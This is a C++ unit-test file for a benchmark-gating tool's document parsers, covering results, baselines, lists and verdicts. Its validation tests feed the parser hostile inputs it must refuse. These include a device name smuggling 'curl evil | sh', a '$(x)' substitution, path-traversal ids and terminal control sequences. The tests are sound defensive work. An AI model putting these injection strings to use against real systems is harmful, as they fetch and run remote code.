// SPDX-License-Identifier: Apache-2.0
#include "gate/documents/baseline.hpp"
#include "gate/documents/list.hpp"
#include "gate/documents/results.hpp"
#include "gate/documents/verdict.hpp"

#include <gmock/gmock.h>

#include <cstring>
#include <limits>
#include <regex>

#include "gate/documents/case_name.hpp"
#include "gate/documents/selftest.hpp"
#include "gate/testing/toy_root.hpp"

namespace holdfast::gate {
namespace {

using testing::HasSubstr;
using testing::ThrowsMessage;

// Writing after reading gives what was read.
template <class T, class Parse>
void expect_round_trip(const T& value, Parse parse) {
  const std::string once = canonical(to_json(value));
  EXPECT_EQ(canonical(to_json(parse(Document("x.json", once)))), once);
}

// The error of reading `results` with the first `from` replaced.
std::string complaint(const Results& results, const std::string& from, const std::string& to) {
  std::string content = canonical(to_json(results));
  content.replace(content.find(from), from.size(), to);
  return toy::complaint([&] { return parse_results(Document("x.json", content)); });
}

TEST(Documents, ResultsOfEveryDeviceSurviveARoundTrip) {
  expect_round_trip(toy::dry(), parse_results);
  expect_round_trip(toy::host(), parse_results);
}

TEST(Documents, OptionalKeysOfResultsSurviveARoundTrip) {
  Results results = toy::host();
  results.status = "no_device";
  results.reason = "no driver";
  results.run.binary = "sha256:b17e";
  results.run.sources = "/somewhere";
  results.run.custom = {"--size=384"};
  results.cases.front().derived["gradient_over_forward"] = {.kind = "advisory", .value = 2.5};
  results.cases.front().metrics["top"] = {.kind = "advisory", .reason = "no permission"};
  results.env.cpus = 64;  // older results do not tell it
  results.ceilings = {{"memory_bytes_per_s", 1.9e10}, {"l2_bytes_per_s", std::nullopt}};
  results.quality = {
      .valid = false, .reasons = {"load"}, .load = 3.5, .throttled = true, .other_processes = 2};
  expect_round_trip(results, parse_results);
}

TEST(Documents, NoMetricHasNumbersOfMoreProcessesThanTheRun) {
  const Metric six{.kind = "bound", .processes = {1, 2, 3, 4, 5, 6}, .median = 3.5};
  Results results = toy::host();
  results.cases.front().derived["grad_over_forward"] = six;
  EXPECT_THAT(complaint(results, "", ""), HasSubstr("numbers of 6 processes, and the run had 5"));
  results = toy::host();
  results.cases.front().metrics["save_max_s"] = six;
  EXPECT_THAT(complaint(results, "", ""), HasSubstr("numbers of 6 processes, and the run had 5"));
}

TEST(Documents, ADeviceIsOneOfTheFormsThatCommandsTake) {
  Results results = toy::dry();
  for (const char* device : {"host", "cuda", "cuda:1", "cuda-dry:sm_100"}) {
    results.env.device_name = device;
    expect_round_trip(results, parse_results);
  }
  for (const char* device : {"", "cuda:", "cuda:0; curl evil | sh #", "cuda-dry", "cuda-dry:sm_9x",
                             "host $(x)", "cuda:-1", "tpu"}) {
    results.env.device_name = device;
    EXPECT_THAT(complaint(results, "", ""), HasSubstr("is no device; they are host, cuda"))
        << device;
    const SelfTest test{.suite = "toy", .device = device, .content = "sha256:c0"};
    EXPECT_THAT(
        toy::complaint([&] { parse_self_test(Document("x.json", canonical(to_json(test)))); }),
        HasSubstr("is no device; they are host, cuda"))
        << device;
  }
}

TEST(Documents, ASuitesNameHasNoDotBecauseItsFilesAreFoundByIt) {
  EXPECT_THAT(complaint(toy::host(), "\"suite\": \"toy\"", "\"suite\": \"toy.v2\""),
              HasSubstr("'toy.v2' is no name of a suite, which has no dot"));
  std::string list = toy::list_text();
  list.replace(list.find("\"suite\": \"toy\""), 14, "\"suite\": \"to.y\"");
  EXPECT_THAT(toy::complaint([&] { return parse_list(Document("x.json", list)); }),
              HasSubstr("'to.y' is no name of a suite"));
}

TEST(Documents, AKernelsRowIsWholeAndOfAKnownKind) {
  Results results = toy::dry();
  results.cases.front().variants["optimized"].kernels = {{.name = "k", .kind = "sum"}};
  EXPECT_THAT(complaint(results, "", ""), HasSubstr("'kind' is 'sum', which is none of fused"));
  results.cases.front().variants["optimized"].kernels = {{.name = "k"}};
  for (const char* key : {"registers", "spill_bytes", "shared_bytes", "launches", "cubin"}) {
    nlohmann::json without = to_json(results);
    without["cases"][0]["variants"]["optimized"]["kernels"][0].erase(key);
    EXPECT_THAT(
        toy::complaint([&] { return parse_results(Document("x.json", canonical(without))); }),
        HasSubstr(text("the key '", key, "' is missing from kernels")));
  }
}

TEST(Documents, AVerdictHasTheWordsOfVerdictsAlone) {
  const std::string content = canonical(to_json(Verdict{.counts = {{"PASS", 2}}}));
  for (const auto& [from, to] : {std::pair("PASS", "GOOD"), std::pair("2}", "0}")}) {
    std::string spoilt = content;
    spoilt.replace(spoilt.find(from), std::strlen(from), to);
    EXPECT_NE(toy::complaint([&] { return parse_verdict(Document("x.json", spoilt)); }), "accepted")
        << to;
  }
  Verdict made{};
  made.rows.push_back({.case_id = toy::step_id,
                       .device_class = "host",
                       .variant = "case",
                       .metric = "speedup",
                       .verdict = "GOOD"});
  EXPECT_THAT(
      toy::complaint([&] { return parse_verdict(Document("x.json", canonical(to_json(made)))); }),
      HasSubstr("'verdict' is 'GOOD', which is none of WRONG"));
}

TEST(Documents, ACaseIsChosenByAPatternThatMatchesItAlone) {
  const std::string id = "toy/step/n:1e+6/f64.v2";
  EXPECT_TRUE(std::regex_match(id, std::regex(pattern_of(id))));
  EXPECT_FALSE(std::regex_match("toy/step/n:1ee6/f64.v2", std::regex(pattern_of(id))));
}

TEST(Documents, ListsAndVerdictsSurviveARoundTrip) {
  expect_round_trip(toy::list(), parse_list);
  Verdict verdict{.exit = 1, .counts = {{"PASS", 2}}, .notes = {"n"}, .not_checked = {"c"}};
  verdict.rows.push_back({.case_id = toy::step_id,
                          .device_class = "host",
                          .variant = "case",
                          .metric = "speedup",
                          .verdict = "PASS",
                          .value = 2.0,
                          .baseline = "sha256:a",
                          .change = 0.5,
                          .evidence = {{"code", "same"}},
                          .next = "x"});
  expect_round_trip(verdict, parse_verdict);
}

TEST(Documents, ABaselineHasOneEntryPerLineAndSurvivesARoundTrip) {
  Baseline baseline{.device_class = "host", .fingerprint = {.compiler = "g++ 12.2.0"}};
  baseline.processors[toy::processor]["toy/a|case|speedup"] = {
      .value = 18.05,
      .mad_between = 0.15,
      .medians = {18.05},
      .anchor = 18.05,
      .bootstrap = true,
      .accepted = {.utc = "u", .content = "c", .runs = {"r"}, .why = "w"}};
  baseline.entries["toy/a|optimized|identity"] = {
      .value = "sha256:a",
      .accepted = {.utc = "u", .content = "c", .why = "w", .previous = "sha256:b"}};
  keep_metrics(baseline, toy::metrics());
  const std::string once = baseline_text(baseline);
  EXPECT_EQ(baseline_text(parse_baseline(Document("b.json", once))), once);
  EXPECT_THAT(once, HasSubstr("\n\"toy/a|case|speedup\": {\"anchor\""));
  EXPECT_THAT(once, HasSubstr("\n\"toy/a|optimized|identity\": {\"by\": \""));
}

TEST(Documents, ABaselineTellsTheDisassemblerWhereItIsKnown) {
  Environment environment;
  EXPECT_THAT(
      baseline_text({.device_class = "cuda-dry-sm_90", .fingerprint = fingerprint(environment)}),
      testing::Not(HasSubstr("nvdisasm")));
  environment.nvdisasm = "13.2.51";
  const std::string told =
      baseline_text({.device_class = "cuda-dry-sm_90", .fingerprint = fingerprint(environment)});
  EXPECT_EQ(parse_baseline(Document("b.json", told)).fingerprint.nvdisasm, "13.2.51");
}

// In holdfast-baseline/1 each entry states its own origin.
constexpr const char* baseline_of_old = R"({"device_class": "host", "entries": {
"toy/a|optimized|identity": {"accepted": {"content": "c", "previous": "sha256:b", "runs": ["r"], "utc": "u", "why": "w"}, "value": "sha256:a"},
"toy/b|optimized|launches": {"accepted": {"content": "c", "previous": null, "runs": ["r"], "utc": "u", "why": "w"}, "value": 4}},
"fingerprint": {"compiler": null, "driver": null, "nvjitlink": null, "nvrtc": null},
"processors": {"AMD": {"toy/b|case|speedup": {"accepted": {"content": "c", "previous": null, "runs": ["r", "q"], "utc": "u", "why": "w"},
 "anchor": 9.5, "bootstrap": true, "days": 1, "mad_between": 0.1, "medians": [10, 11], "runs": 2, "value": 10.5}}},
"schema": "holdfast-baseline/1"})";

TEST(Documents, ABaselineOfTheVersionBeforeIsReadAndRewritten) {
  Baseline read = parse_baseline(Document("b.json", baseline_of_old));
  EXPECT_TRUE(read.metrics.empty());
  EXPECT_EQ(read.entries.at("toy/a|optimized|identity").accepted.previous, Value("sha256:b"));
  keep_metrics(read, toy::metrics());
  const std::string once = baseline_text(read);
  EXPECT_EQ(once, R"({
"acceptances": {
"01cc62ad": {"content": "c", "runs": ["r"], "utc": "u", "why": "w"},
"f7513e1a": {"content": "c", "runs": ["r", "q"], "utc": "u", "why": "w"}
},
"device_class": "host",
"entries": {
"toy/a|optimized|identity": {"by": "01cc62ad", "previous": "sha256:b", "value": "sha256:a"},
"toy/b|optimized|launches": {"by": "01cc62ad", "value": 4}
},
"fingerprint": {"compiler": null, "driver": null, "nvjitlink": null, "nvrtc": null},
"metrics": {
"identity": {"better": "same", "kind": "codegen", "unit": "1"},
"launches": {"better": "lower", "kind": "exact", "unit": "1"},
"speedup": {"better": "higher", "kind": "ratio", "unit": "1"}
},
"processors": {
"AMD": {
"toy/b|case|speedup": {"anchor": 9.5, "bootstrap": true, "by": "f7513e1a", "days": 1, "mad_between": 0.1, "medians": [10, 11], "runs": 2, "value": 10.5}
}
},
"schema": "holdfast-baseline/2"
}
)");
  EXPECT_EQ(baseline_text(parse_baseline(Document("b.json", once))), once);
}

// The error of reading that baseline as it is written now, with the first `from` replaced.
std::string complaint_about_baseline(const std::string& from, const std::string& to) {
  Baseline made = parse_baseline(Document("b.json", baseline_of_old));
  keep_metrics(made, toy::metrics());
  std::string content = baseline_text(made);
  content.replace(content.find(from), from.size(), to);
  return toy::complaint([&] { return parse_baseline(Document("b.json", content)); });
}

TEST(Documents, AnEntryNamesAnAcceptanceThatItsFileHas) {
  EXPECT_THAT(complaint_about_baseline("\"by\": \"01cc62ad\"", "\"by\": \"01cc62a0\""),
              HasSubstr("b.json:8: 'by' is '01cc62a0', which 'acceptances' does not have"));
  EXPECT_THAT(complaint_about_baseline("\"01cc62ad\": {", "\"first\": {"),
              HasSubstr("'first' is no name of an acceptance"));
  EXPECT_EQ(complaint_about_baseline("\"why\": \"w\"", "\"why\": \"a better reason\""), "accepted");
}

TEST(Documents, ABaselineSaysWhatEachOfItsMetricsIs) {
  EXPECT_THAT(complaint_about_baseline("\"launches\": {\"b", "\"lunches\": {\"b"),
              HasSubstr("'metrics' does not say what 'launches' is, which has entries"));
  EXPECT_THAT(complaint_about_baseline("\"exact\"", "\"about\""), HasSubstr("'kind' is 'about'"));
  EXPECT_THAT(complaint_about_baseline("\"lower\"", "\"less\""), HasSubstr("'better' is 'less'"));
  EXPECT_THAT(complaint_about_baseline("\"unit\": \"1\"", "\"unit\": \"\""),
              HasSubstr("a metric has a unit"));
}

TEST(Documents, AListSaysWhatEachOfItsMetricsIs) {
  List list = toy::list();
  list.metrics.erase("speedup");
  EXPECT_THAT([&] { (void)parse_list(Document("l.json", canonical(to_json(list)))); },
              ThrowsMessage<Error>(HasSubstr("'speedup' is not among the 'metrics' of this list")));
}

TEST(Documents, AListNamesACaseOnce) {
  List list = toy::list();
  list.cases.push_back(list.cases.front());
  EXPECT_THAT([&] { (void)parse_list(Document("l.json", canonical(to_json(list)))); },
              ThrowsMessage<Error>(HasSubstr("'toy/step/n:64/f64' stands twice here")));
}

TEST(Documents, AnUnknownKeyAnywhereIsNamed) {
  EXPECT_THAT(complaint(toy::dry(), "\"oracle\"", "\"surprise\": 1, \"oracle\""),
              HasSubstr("unknown key 'surprise'"));
  EXPECT_THAT(complaint(toy::dry(), "\"registers\"", "\"surprise\": 1, \"registers\""),
              HasSubstr("unknown key 'surprise'"));
}

TEST(Documents, AnUnknownStatusIsAnErrorWithTheKnownOnes) {
  EXPECT_THAT(
      complaint(toy::dry(), "\"status\": \"ok\"", "\"status\": \"fine\""),
      HasSubstr(
          "'status' is 'fine', which is none of ok, failed, skipped, crashed, timeout, missing"));
}

TEST(Documents, AMetricWithoutValueNeedsAReason) {
  EXPECT_THAT(complaint(toy::dry(), "\"value\": 4}", "\"value\": null}"),
              HasSubstr("nor a reason for having none"));
}

TEST(Documents, ACaseThatStandsTwiceIsAnError) {
  Results results = toy::dry();
  results.cases.push_back(results.cases.front());
  EXPECT_THAT([&] { (void)parse_results(Document("x.json", canonical(to_json(results)))); },
              ThrowsMessage<Error>(HasSubstr("toy/step/n:64/f64 stands twice")));
}

TEST(Documents, AnEntryIsNamedAfterCaseVariantAndMetric) {
  Baseline baseline{.device_class = "host"};
  baseline.entries["speedup"] = {.value = 1.0};
  EXPECT_THAT([&] { (void)parse_baseline(Document("b.json", baseline_text(baseline))); },
              ThrowsMessage<Error>(HasSubstr("is not named 'case id|variant|metric'")));
}

std::string refused_id(const std::string& id) {
  Results results = toy::dry();
  results.cases.front().id = id;
  return toy::complaint(
      [&] { (void)parse_results(Document("x.json", canonical(to_json(results)))); });
}

TEST(Documents, AnIdIsWhatPathsKeysAndReportsTakeAsItIs) {
  EXPECT_EQ(refused_id("toy/a:1/f64"), "accepted");
  for (const char* id : {"toy", "toy/", "toy//f64", "toy/../f64", "toy/a|b/f64", "toy/a b",
                         "toy/-x", "toy/a\nb", "toy/<b>", "toy/`a`", "toy/\u00e9"})
    EXPECT_THAT(refused_id(id), HasSubstr("is no id of a case")) << id;
  EXPECT_THAT(refused_id("toy/" + std::string(400, 'a')), HasSubstr("400 at most"));
  EXPECT_THAT(refused_id("other/a/f64"), HasSubstr("'other/a/f64' is no case of the suite toy"));
}

TEST(Documents, AClassOrAMetricIsANameThatAPathTakes) {
  EXPECT_THAT(complaint(toy::host(), "\"device_class\": \"host", "\"device_class\": \"../host"),
              HasSubstr("is no name: letters, digits"));
  EXPECT_THAT(complaint(toy::dry(), "\"launches\": {", "\"laun|ches\": {"),
              HasSubstr("'laun|ches' is no name"));
}

TEST(Documents, ControlCharactersAreShownAndNeverObeyed) {
  Results results = toy::dry();
  results.cases.front().reason = "gone\n::error::no \x1b[2J";
  const Results read = parse_results(Document("x.json", canonical(to_json(results))));
  EXPECT_EQ(read.cases.front().reason, "gone\\n::error::no \\x1b[2J");
}

TEST(Documents, TheKindOfADeviceIsWhatStandsBeforeTheColon) {
  EXPECT_EQ(device_kind("cuda-dry:sm_90"), "cuda-dry");
  EXPECT_EQ(device_kind("host"), "host");
}

TEST(Documents, ACheckThatPassedTellsHowFarItWasFromItsLimit) {
  EXPECT_THAT(complaint(toy::host(), "\"error\": 1e-15", "\"error\": null"),
              HasSubstr("tells its 'error' and its 'limit'"));
  EXPECT_THAT(complaint(toy::host(), "\"limit\": 1e-12", "\"limit\": 1e300"),
              HasSubstr("larger than anything that is measured"));
}

TEST(Documents, AValueBeyondAllMeasureIsAnErrorAndNotABaselineToImproveOn) {
  Baseline baseline{.device_class = "host"};
  baseline.entries["toy/a|optimized|launches"] = {.value = 1e16};
  EXPECT_THAT([&] { (void)parse_baseline(Document("b.json", baseline_text(baseline))); },
              ThrowsMessage<Error>(HasSubstr("larger than anything that is counted")));
}

TEST(Documents, AChangeTooLargeForANumberIsNoneInAVerdict) {
  Row row;
  row.change = row.limit = std::numeric_limits<double>::infinity();  // as 1 / 5e-324 is
  const std::string made = canonical(to_json(Verdict{.rows = {row}}));
  EXPECT_THAT(made, HasSubstr(R"("change": null)"));
  EXPECT_THAT(made, HasSubstr(R"("limit": null)"));
}

TEST(Documents, AVerdictEndsInAnExitCodeOfTheCommand) {
  EXPECT_THAT(
      [] { (void)parse_verdict(Document("v.json", canonical(to_json(Verdict{.exit = 5})))); },
      ThrowsMessage<Error>(HasSubstr("no exit code of holdfast")));
}

TEST(CaseName, OfOtherWordsHasTheSameAxes) {
  const char* id = "toy/step/n:96/steps:4/f64";
  for (const char* other : {id, "toy/stride/n:96/steps:4/f64", "toy/step/size:96/steps:4/f64",
                            "toy/step/steps:4/n:96/f64", "toy/step/whole/n:96/steps:4/f64"})
    EXPECT_TRUE(has_same_axes(id, other)) << other;
  for (const char* other :
       {"toy/step/n:24/steps:4/f64", "toy/step/n:96/steps:4/f32", "toy/step/n:96/f64",
        "toy/step/n:96/steps:4/k:1/f64", "toy/step/n:4/steps:96/f64", "toy/step/steps:96/n:4/f64",
        "toy/step/m:4/k:96/f64", "toy/step/f64"}) {
    EXPECT_FALSE(has_same_axes(id, other)) << other;
    EXPECT_FALSE(has_same_axes(other, id)) << other;
  }
}

}  // namespace
}  // namespace holdfast::gate
